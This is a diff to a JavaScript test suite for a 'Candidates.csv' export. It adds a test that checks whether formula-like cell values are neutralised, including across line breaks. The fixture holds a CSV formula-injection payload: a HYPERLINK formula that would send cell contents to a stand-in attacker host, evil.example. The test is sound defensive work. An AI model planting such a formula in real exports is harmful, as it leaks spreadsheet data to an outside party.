@@ -40,4 +40,14 @@ describe('the Candidates.csv export', () => {
     expect(row[2]).toBe(`'+1+1`);
     expect(row[6]).toBe(`'-2+3`);
   });
+
+  it('defuses a formula that goes on after a line break', () => {
+    const city = '=HYPERLINK("http://evil.example/?leak="&F3&F4,\n"Berlin")';
+    const csv = boardCsv([
+      buildCandidateRow({ field_city_text: city, field_candidate_country: '\t=1+1\nx' }),
+    ]);
+    const row = Papa.parse<string[]>(csv).data[1];
+    expect(row[2]).toBe(`'${city}`);
+    expect(row[1]).toBe(`'\t=1+1\nx`);
+  });
 });
